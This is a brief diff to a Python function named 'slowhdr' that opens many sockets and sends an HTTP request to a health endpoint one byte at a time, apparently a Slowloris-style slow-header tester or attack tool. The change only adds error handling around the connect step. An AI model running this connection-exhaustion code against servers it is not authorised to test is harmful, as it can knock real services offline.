@@ -118,9 +118,12 @@ def slowhdr(host, port, n, src):
     for _ in range(n):
         s = socket.socket()
         s.bind((src, 0))
-        s.connect((host, port))
-        s.sendall(b"G")
-        socks.append(s)
+        try:
+            s.connect((host, port))
+            s.sendall(b"G")
+            socks.append(s)
+        except OSError:
+            s.close()
     print("ready", len(socks), flush=True)
     rest = b"ET /api/v1/health HTTP/1.1\r\nX-Slow: " + b"a" * 4096
     for i in range(len(rest)):
